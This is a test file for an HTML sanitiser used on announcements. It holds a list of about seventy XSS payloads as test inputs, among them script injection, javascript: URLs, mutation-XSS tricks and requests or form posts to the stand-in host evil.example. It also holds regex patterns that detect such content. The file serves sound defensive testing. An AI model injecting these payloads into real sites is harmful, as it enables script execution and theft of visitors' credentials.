// @vitest-environment happy-dom
import { expect, test } from 'vitest'

import { cleanHtml } from '#server/modules/announcement/clean-html.ts'

const hash = 'a'.repeat(64)

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)"/onload=alert(2)>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  `<img src="/uploads/../__sim/reset">`,
  `<img src="/x?/uploads/${hash}.png">`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">登录</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea><textarea><script>alert(1)</script></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-color:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<p onclick="alert(1)">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p class="ant-modal-mask" id="root" data-x="1">x</p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)">',
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<b "<script>alert(1)</script>">x</b>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

const allowedTags = new Set(
  'h1 h2 h3 h4 h5 h6 p div span br hr blockquote pre code b strong i em u s del sub sup ul ol li a img table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
)
const allowedAttributes = new Set('style href title target rel src alt width height colspan rowspan start'.split(' '))

const harmless: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#)/,
  src: /^\/(?:[\w-]+\/)*uploads\/[0-9a-f]{64}\.(?:jpg|png)$/,
  style: /^(?!.*(?:url|expression|position|behavior|import))/i,
}

/** All elements that a browser creates from the cleaned text. */
const elementsIn = (html: string): Element[] => {
  document.body.innerHTML = html
  return [...document.body.querySelectorAll('*')]
}

test.each(hostile)('nothing of %s can run, load, frame or imitate anything', async (html) => {
  const clean = await cleanHtml(html)
  for (const element of elementsIn(clean)) {
    expect(allowedTags).toContain(element.tagName.toLowerCase())
    for (const { name, value } of element.attributes) {
      expect(allowedAttributes).toContain(name)
      expect(value).toMatch(harmless[name] ?? /^/)
    }
  }
  expect(clean).not.toMatch(/<[^>]*(?:javascript|vbscript|\son\w+\s*=|evil\.example)/i)
})

test.each(hostile)('cleaning %s twice changes nothing more', async (html) => {
  const once = await cleanHtml(html)
  expect(await cleanHtml(once)).toBe(once)
})

test('text keeps its shape: headings, lists, tables, emphasis and harmless styles', async () => {
  const html =
    '<h2 style="text-align:center">通知</h2><p style="color:#f5222d;font-size:16px"><strong>严禁</strong>入楼<em>充电</em></p>' +
    '<ul><li>一</li></ul><table><tbody><tr><td colspan="2">表</td></tr></tbody></table>'
  expect(await cleanHtml(html)).toBe(html)
})

test('a link opens elsewhere and tells nothing, a picture of our own stays', async () => {
  expect(await cleanHtml('<a href="https://www.119.gov.cn/" onclick="x()">消防局</a>')).toBe(
    '<a href="https://www.119.gov.cn/" target="_blank" rel="noopener noreferrer">消防局</a>',
  )
  for (const path of [`/uploads/${hash}.png`, `/w/demo-1/uploads/${hash}.jpg`])
    expect(await cleanHtml(`<img src="${path}" alt="图">`)).toContain(`src="${path}"`)
})

test('text that only looks like markup stays text', async () => {
  expect(await cleanHtml('温度 < 60 & 湿度 > 30')).toBe('温度 &lt; 60 &amp; 湿度 &gt; 30')
})

test('elements nested without end do not break it', async () => {
  const deep = '<div>'.repeat(20_000) + 'x' + '</div>'.repeat(20_000)
  expect(elementsIn(await cleanHtml(deep)).length).toBeLessThanOrEqual(30)
})
